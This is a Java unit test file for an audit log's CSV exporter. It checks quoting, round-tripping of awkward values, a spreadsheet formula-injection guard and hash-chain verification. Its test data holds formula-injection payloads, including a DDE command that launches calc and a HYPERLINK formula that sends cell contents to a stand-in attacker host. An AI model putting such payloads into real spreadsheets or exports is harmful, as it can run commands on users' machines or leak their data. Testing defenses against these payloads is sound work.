package io.kavach.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.kavach.model.AuditEntry;
import io.kavach.model.AuditResult;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The CSV export read back by a standard RFC 4180 parser (Apache Commons CSV): every value survives
 * quoting, doubled quotes, embedded line breaks and the formula guard, and an exported chain still
 * verifies.
 */
class AuditCsvTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final CSVFormat RFC4180_WITH_HEADER =
            CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
    private static final Set<String> NUMERIC = Set.of("tokensCost", "durationMicros");

    /** Values a spreadsheet or a naive CSV writer gets wrong. */
    static final List<String> NASTY = List.of(
            "a,b,c",
            "say \"hi\", then \"\"bye\"\"",
            "line1\r\nline2\nline3\rline4",
            "naïve café — 日本語 — emoji 🚀👩‍💻 and ZWJ",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+2",
            "-2+3",
            "@SUM(A1:A9)",
            "\tstarts with a tab",
            "\rstarts with a CR",
            "'starts with a quote",
            "''two quotes",
            "'=already guarded?",
            "\"",
            "\"\"",
            ",",
            "\n",
            "ends with a quote\"",
            " leading and trailing space ",
            "=",
            "-",
            "~|5:x|");

    @Test
    void theHeaderIsTheDocumentedColumnsAndRowsEndWithCrlf() throws IOException {
        StringWriter out = new StringWriter();
        AuditCsv.writeHeader(out);
        AuditCsv.writeRow(out, TestEntries.chain(1).get(0));
        String text = out.toString();
        assertThat(text).startsWith(AuditCsv.HEADER + "\r\n").endsWith("\r\n");
        assertThat(text.split("\r\n", -1)).hasSize(3);
        assertThat(AuditCsv.columns()).hasSize(19).startsWith("id", "timestamp").endsWith("previousHash", "hash")
                .contains("tokensCost", "userId", "arguments").doesNotHaveDuplicates();
        try (CSVParser parser = parse(text)) {
            assertThat(parser.getHeaderNames()).isEqualTo(AuditCsv.columns());
            assertThat(String.join(",", parser.getHeaderNames())).isEqualTo(AuditCsv.HEADER);
        }
        assertThat(AuditJsonTest.fieldNames(TestEntries.chain(1).get(0))).isEqualTo(AuditCsv.columns());
    }

    @Test
    void nastyValuesInEveryTextColumnReadBackEqualAfterUnguard() throws IOException {
        List<AuditEntry> originals = new ArrayList<>();
        for (int i = 0; i < NASTY.size(); i++) {
            originals.add(nasty(i, NASTY.get(i), NASTY.get((i + 7) % NASTY.size())));
        }
        originals = TestEntries.chain(originals, AuditEntry.GENESIS);

        List<AuditEntry> readBack = roundTrip(originals);

        assertThat(readBack).isEqualTo(originals);
        for (int i = 0; i < originals.size(); i++) {
            assertThat(readBack.get(i).resource()).as("resource %d", i).isEqualTo(NASTY.get(i));
            assertThat(readBack.get(i).reason()).as("reason %d", i).isEqualTo(NASTY.get(i));
            assertThat(readBack.get(i).arguments()).containsEntry("q", NASTY.get(i));
        }
    }

    @Test
    void anExportedChainStillVerifiesWhenReadBack() throws IOException {
        List<AuditEntry> originals = new ArrayList<>();
        for (int i = 0; i < NASTY.size(); i++) {
            originals.add(nasty(i, NASTY.get(i), NASTY.get(NASTY.size() - 1 - i)));
        }
        originals = TestEntries.chain(originals, AuditEntry.GENESIS);
        ChainVerifier verifier = new ChainVerifier(AuditEntry.GENESIS);
        roundTrip(originals).forEach(verifier);
        AuditVerification result = verifier.result();
        assertThat(result.ok()).as(result.message()).isTrue();
        assertThat(result.checked()).isEqualTo(originals.size());
        assertThat(result.headHash()).isEqualTo(originals.get(originals.size() - 1).hash());
    }

    @Test
    void noCellStartsWithAFormulaCharacterAndOnlyGuardedCellsStartWithAQuote() throws IOException {
        List<AuditEntry> originals = new ArrayList<>();
        for (int i = 0; i < NASTY.size(); i++) {
            originals.add(nasty(i, NASTY.get(i), NASTY.get(i)));
        }
        try (CSVParser parser = parse(csv(TestEntries.chain(originals, AuditEntry.GENESIS)))) {
            for (CSVRecord record : parser) {
                for (String column : AuditCsv.columns()) {
                    String cell = record.get(column);
                    if (cell.isEmpty()) {
                        continue;
                    }
                    assertThat(cell.charAt(0)).as("first character of %s in row %d: %s", column, record.getRecordNumber(), cell)
                            .isNotIn('=', '+', '-', '@', '\t', '\r');
                    if (cell.startsWith("'")) {
                        assertThat(cell.substring(1)).as("a guarded cell holds a risky value")
                                .matches("(?s)^[=+\\-@\t\r'].*");
                    }
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@A1", "\t1", "\r1", "'1", "''", "'"})
    void riskyCellsGetExactlyOneLeadingQuoteAndUnguardRemovesExactlyOne(String value) throws IOException {
        AuditEntry entry = TestEntries.chain(List.of(nasty(1, value, value)), AuditEntry.GENESIS).get(0);
        try (CSVParser parser = parse(csv(List.of(entry)))) {
            CSVRecord record = parser.getRecords().get(0);
            assertThat(record.get("resource")).isEqualTo("'" + value);
            assertThat(record.get("reason")).isEqualTo("'" + value);
            assertThat(AuditCsv.unguard(record.get("resource"))).isEqualTo(value);
        }
        assertThat(AuditCsv.unguard("plain")).isEqualTo("plain");
        assertThat(AuditCsv.unguard("")).isEmpty();
        assertThat(AuditCsv.unguard(null)).isNull();
    }

    @Test
    void numericColumnsAreNeverGuardedAndAnAbsentCostIsAnEmptyCell() throws IOException {
        AuditEntry noCost = entryWithNumbers(null, 0);
        AuditEntry big = entryWithNumbers(Long.MAX_VALUE, 7);
        AuditEntry zero = entryWithNumbers(0L, 1_234_567);
        String text = csv(TestEntries.chain(List.of(noCost, big, zero), AuditEntry.GENESIS));
        try (CSVParser parser = parse(text)) {
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).extracting(r -> r.get("tokensCost")).containsExactly("", Long.toString(Long.MAX_VALUE), "0");
            assertThat(records).extracting(r -> r.get("durationMicros")).containsExactly("0", "7", "1234567");
        }
        assertThat(text).doesNotContain("'" + Long.MAX_VALUE).contains("," + Long.MAX_VALUE + ",");
    }

    @Test
    void timestampsAreUtcWithMillisecondsAndEmptyTextReadsBackEmpty() throws IOException {
        AuditEntry onTheSecond = new AuditEntry("aud_1", Instant.parse("2026-01-31T23:59:59Z"), null, null, null,
                "agent.created", "", AuditResult.SUCCESS, "AGENT_CREATED", "", null, 0, null, List.of(), null, null,
                Map.of(), AuditEntry.GENESIS, "h");
        try (CSVParser parser = parse(csv(List.of(onTheSecond)))) {
            CSVRecord record = parser.getRecords().get(0);
            assertThat(record.get("timestamp")).isEqualTo("2026-01-31T23:59:59.000Z");
            assertThat(record.get("agentId")).isEmpty();
            assertThat(record.get("resource")).isEmpty();
            assertThat(record.get("reason")).isEmpty();
            assertThat(record.get("policyIds")).isEqualTo("[]");
            assertThat(record.get("arguments")).isEqualTo("{}");
            assertThat(record.get("result")).isEqualTo("SUCCESS");
        }
    }

    /** Property: random strings built from the troublesome characters survive the round trip. */
    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8, 20261123L, 42})
    void randomNastyStringsRoundTrip(long seed) throws IOException {
        Random random = new Random(seed);
        List<AuditEntry> originals = new ArrayList<>();
        for (int i = 0; i < 50; i++) {
            originals.add(nasty(i, randomText(random), randomText(random)));
        }
        originals = TestEntries.chain(originals, AuditEntry.GENESIS);
        assertThat(roundTrip(originals)).isEqualTo(originals);
    }

    @Test
    void aFailingWriterSurfacesAsUncheckedIoException() {
        Writer broken = new Writer() {
            @Override
            public void write(char[] buffer, int offset, int length) throws IOException {
                throw new IOException("disk full");
            }

            @Override
            public void flush() {
            }

            @Override
            public void close() {
            }
        };
        assertThatThrownBy(() -> AuditCsv.writeRow(broken, TestEntries.chain(1).get(0)))
                .isInstanceOf(UncheckedIOException.class).hasRootCauseMessage("disk full");
        assertThatThrownBy(() -> AuditCsv.writeHeader(broken)).isInstanceOf(UncheckedIOException.class);
    }

    // ---------------------------------------------------------------------------------------------

    private static final String[] PIECES = {",", "\"", "\r", "\n", "\r\n", "'", "=", "+", "-", "@", "\t", " ", "a", "Z",
        "é", "日本", "🚀", "👩‍💻", "|", "~", ":", "{", "}", "[", "\\", "0", "9"};

    static String randomText(Random random) {
        StringBuilder out = new StringBuilder();
        int length = 1 + random.nextInt(12);
        for (int i = 0; i < length; i++) {
            out.append(PIECES[random.nextInt(PIECES.length)]);
        }
        return out.toString();
    }

    /** An entry with {@code value} in every free-text column and {@code other} in the ids. */
    static AuditEntry nasty(int n, String value, String other) {
        Map<String, Object> arguments = new LinkedHashMap<>();
        arguments.put("q", value);
        arguments.put(other, List.of(value, other, n));
        arguments.put("nested", Map.of("=x", value, "n", n));
        return new AuditEntry(String.format("aud_01J%023d", n), TestEntries.T0.plusMillis(n), other, value, other,
                value, value, AuditResult.values()[n % 3], other, value, n % 2 == 0 ? null : (long) n, n, other,
                List.of(value, other), other, value, AuditHasher.normalize(arguments), null, null);
    }

    private static AuditEntry entryWithNumbers(Long tokensCost, long durationMicros) {
        return new AuditEntry("aud_" + durationMicros, TestEntries.T0, "agt_1", "u", null, "execute", "x",
                AuditResult.ALLOWED, "ALLOWED", "ok", tokensCost, durationMicros, null, List.of(), null, null, Map.of(),
                null, null);
    }

    static String csv(List<AuditEntry> entries) {
        StringWriter out = new StringWriter();
        AuditCsv.writeHeader(out);
        entries.forEach(e -> AuditCsv.writeRow(out, e));
        return out.toString();
    }

    static CSVParser parse(String text) throws IOException {
        return CSVParser.builder().setReader(new StringReader(text)).setFormat(RFC4180_WITH_HEADER).get();
    }

    private static List<AuditEntry> roundTrip(List<AuditEntry> entries) throws IOException {
        try (CSVParser parser = parse(csv(entries))) {
            List<AuditEntry> out = new ArrayList<>();
            for (CSVRecord record : parser) {
                assertThat(record.isConsistent()).isTrue();
                out.add(fromCsv(record));
            }
            return out;
        }
    }

    /** An entry from one CSV record: unguarded text, empty cells as null. */
    static AuditEntry fromCsv(CSVRecord r) throws IOException {
        return new AuditEntry(text(r, "id"), Instant.parse(r.get("timestamp")), text(r, "agentId"), text(r, "userId"),
                text(r, "tenantId"), text(r, "action"), text(r, "resource"), AuditResult.valueOf(r.get("result")),
                text(r, "code"), text(r, "reason"), r.get("tokensCost").isEmpty() ? null : Long.parseLong(r.get("tokensCost")),
                Long.parseLong(r.get("durationMicros")), text(r, "delegationChainId"),
                JSON.readValue(text(r, "policyIds"), new TypeReference<List<String>>() { }), text(r, "ip"),
                text(r, "userAgent"), JSON.readValue(text(r, "arguments"), new TypeReference<LinkedHashMap<String, Object>>() { }),
                text(r, "previousHash"), text(r, "hash"));
    }

    private static String text(CSVRecord r, String column) {
        assertThat(NUMERIC).doesNotContain(column);
        String cell = AuditCsv.unguard(r.get(column));
        return cell.isEmpty() ? null : cell;
    }
}
